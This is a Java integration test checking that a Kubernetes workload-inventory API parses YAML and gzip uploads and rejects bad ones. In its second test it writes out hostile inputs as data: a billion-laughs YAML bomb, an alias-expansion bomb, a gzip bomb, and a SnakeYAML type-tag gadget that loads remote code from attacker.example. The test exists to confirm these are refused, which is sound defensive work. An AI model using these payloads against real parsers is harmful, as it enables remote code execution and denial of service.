package io.keelwatch.inventory.workloads;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import io.keelwatch.inventory.ClusterCalls;
import io.keelwatch.inventory.WorkloadCalls;
import io.keelwatch.testsupport.Fixtures;
import io.keelwatch.testsupport.KeelwatchIntegrationTest;
import io.keelwatch.testsupport.TestWorld;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.yaml.snakeyaml.Yaml;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Workload documents as kubectl writes them in YAML (one document, or several separated by {@code ---}),
 * gzip-compressed or plain, are read like JSON; bad ones (malformed JSON or YAML, an alias bomb, a YAML
 * type tag, a gzip bomb, a body that is no Kubernetes object, kinds that run nothing, a type that is
 * neither JSON nor YAML, a bad namespace, a cluster that does not exist) get problem details and write nothing.
 */
@KeelwatchIntegrationTest
class WorkloadDocumentsInYamlOrGzipAndBadOnesWriteNothingIT {

    @Autowired
    MockMvc mvc;
    @Autowired
    TestWorld world;
    @Autowired
    JdbcClient jdbc;

    private final JsonMapper json = JsonMapper.builder().build();
    private WorkloadCalls workloads;
    private String cluster;

    @BeforeEach
    void cluster() throws Exception {
        world.alpha();
        workloads = new WorkloadCalls(mvc);
        cluster = new ClusterCalls(mvc).cluster();
    }

    @Test
    void yamlAsKubectlWritesItAndGzipAreReadLikeJson() throws Exception {
        String pod = yaml(Fixtures.text("k8s/k9s_render_po.json"));
        String sidecar = yaml(Fixtures.text("k8s/k9s_po_sidecar.json"));
        JsonNode one = workloads.read(send(pod.getBytes(StandardCharsets.UTF_8), "application/yaml", null).andExpect(status().isOk()));
        assertThat(one.get("containers").get("seen").asInt()).isEqualTo(1);

        JsonNode several = workloads.read(send((pod + "---\n" + sidecar).getBytes(StandardCharsets.UTF_8), "application/x-yaml", null)
                .andExpect(status().isOk()));
        assertThat(several.get("snapshot").asBoolean()).as("several documents are a List").isTrue();
        assertThat(several.get("containers").get("seen").asInt()).isEqualTo(4);

        byte[] list = workloads.list("PodList", List.of(workloads.fixture("k9s_po_sidecar.json", "default")));
        JsonNode gzipped = workloads.read(send(gzip(list), "application/json", "gzip").andExpect(status().isOk()));
        assertThat(gzipped.get("containers").get("seen").asInt()).isEqualTo(3);
        assertThat(gzipped.get("containers").get("stopped").asInt()).as("the PodList stops the nginx Pod it leaves out").isEqualTo(1);
        JsonNode yamlGzipped = workloads.read(send(gzip(sidecar.getBytes(StandardCharsets.UTF_8)), "text/yaml", "gzip")
                .andExpect(status().isOk()));
        assertThat(yamlGzipped.get("containers").get("added").asInt()).isZero();
        assertThat(workloads.running(TestWorld.LEAD, Map.of("cluster", cluster)).get("totalItems").asInt()).isEqualTo(3);
    }

    @Test
    void badDocumentsAreProblemsAndWriteNothing() throws Exception {
        workloads.report(cluster, null, workloads.bytes(workloads.fixture("k9s_render_po.json", "default")));
        long before = rows();
        // the billion laughs: 81 aliases, more than the 50 SnakeYAML is allowed
        StringBuilder bomb = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int level = 1; level <= 9; level++) {
            bomb.append("a").append(level).append(": &a").append(level).append(" [")
                    .append(String.join(",", Collections.nCopies(9, "*a" + (level - 1)))).append("]\n");
        }
        // 40 aliases (allowed) standing for 4^10 nodes: refused by the tree's node budget
        StringBuilder expansion = new StringBuilder("kind: PodList\nb0: &b0 [{kind: Pod}, {kind: Pod}, {kind: Pod}, {kind: Pod}]\n");
        for (int level = 1; level <= 10; level++) {
            expansion.append("b").append(level).append(": &b").append(level).append(" [")
                    .append(String.join(",", Collections.nCopies(4, "*b" + (level - 1)))).append("]\n");
        }
        expansion.append("items: *b10\n");
        String typeTag = "kind: Pod\nmetadata: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.example/\"]]]]\n";
        problem(send("{\"kind\": \"PodList\", \"items\": [".getBytes(StandardCharsets.UTF_8), "application/json", null), 400,
                "invalid-request");
        problem(send("kind: PodList\nitems: [\n  - {".getBytes(StandardCharsets.UTF_8), "application/yaml", null), 400, "invalid-request");
        problem(send(bomb.toString().getBytes(StandardCharsets.UTF_8), "application/yaml", null), 400, "invalid-request");
        problem(send(expansion.toString().getBytes(StandardCharsets.UTF_8), "application/yaml", null), 400, "invalid-request")
                .andExpect(jsonPath("$.detail").value(containsString("aliases expand")));
        problem(send(typeTag.getBytes(StandardCharsets.UTF_8), "application/yaml", null), 400, "invalid-request");
        problem(send("[1, 2]".getBytes(StandardCharsets.UTF_8), "application/json", null), 400, "invalid-request");
        problem(send(new byte[] {(byte) 0xc0, (byte) 0xaf}, "application/json", null), 400, "invalid-request");
        problem(send(new byte[0], "application/json", null), 400, "invalid-request");
        problem(send("{\"kind\":\"List\",\"items\":[{\"kind\":\"Service\",\"metadata\":{\"name\":\"web\",\"namespace\":\"default\"}}]}"
                .getBytes(StandardCharsets.UTF_8), "application/json", null), 422, "no-workloads");
        problem(send(Fixtures.bytes("k8s/insights-operator__archive-sample__pod__prometheus-k8s-0.json"), "application/json", null),
                422, "no-workloads");
        problem(send(gzip(new byte[40 * 1024 * 1024]), "application/json", "gzip"), 413, "payload-too-large");
        problem(send(gzip("{".getBytes(StandardCharsets.UTF_8)), "application/json", "br"), 415, "unsupported-media-type");
        problem(send(Fixtures.bytes("k8s/k9s_render_po.json"), "text/html", null), 415, "unsupported-media-type");
        problem(mvc.perform(workloads.request(cluster, "Not_A_Namespace").contentType("application/json")
                .content(Fixtures.bytes("k8s/k9s_render_po.json")).with(httpBasic(TestWorld.LEAD, TestWorld.PASSWORD))), 400,
                "invalid-request");
        problem(mvc.perform(workloads.request(ClusterCalls.unique("missing"), null).contentType("application/json")
                .content(Fixtures.bytes("k8s/k9s_render_po.json")).with(httpBasic(TestWorld.LEAD, TestWorld.PASSWORD))), 404,
                "not-found");
        byte[] truncated = gzip(Fixtures.bytes("k8s/k9s_render_po.json"));
        problem(send(Arrays.copyOf(truncated, truncated.length / 2), "application/json", "gzip"), 400, "invalid-request");
        assertThat(rows()).isEqualTo(before);
        assertThat(workloads.running(TestWorld.LEAD, Map.of("cluster", cluster)).get("totalItems").asInt())
                .as("nothing was stopped either").isEqualTo(1);
        problem(mvc.perform(get("/api/v1/workloads")
                .param("drift", "sideways").with(httpBasic(TestWorld.LEAD, TestWorld.PASSWORD))), 400, "invalid-request");
    }

    private ResultActions send(byte[] body, String contentType, String encoding) throws Exception {
        MockHttpServletRequestBuilder request = workloads.request(cluster, null).contentType(contentType).content(body)
                .with(httpBasic(TestWorld.LEAD, TestWorld.PASSWORD));
        if (encoding != null) {
            request.header(HttpHeaders.CONTENT_ENCODING, encoding);
        }
        return mvc.perform(request);
    }

    private static ResultActions problem(ResultActions result, int status, String type) throws Exception {
        return result.andExpect(status().is(status))
                .andExpect(jsonPath("$.type").value("urn:keelwatch:problem:" + type))
                .andExpect(jsonPath("$.detail").isString());
    }

    private long rows() {
        return jdbc.sql("select (select count(*) from workload) + (select count(*) from workload_container) "
                + "+ (select count(*) from image) + (select count(*) from workload_container where stopped_at is not null)")
                .query(Long.class).single();
    }

    /** The JSON fixture as kubectl -o yaml would print it (block style). */
    private String yaml(String jsonText) {
        Object tree = json.readValue(jsonText, Object.class);
        return new Yaml().dumpAsMap(tree);
    }

    private static byte[] gzip(byte[] bytes) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes);
        }
        return out.toByteArray();
    }
}
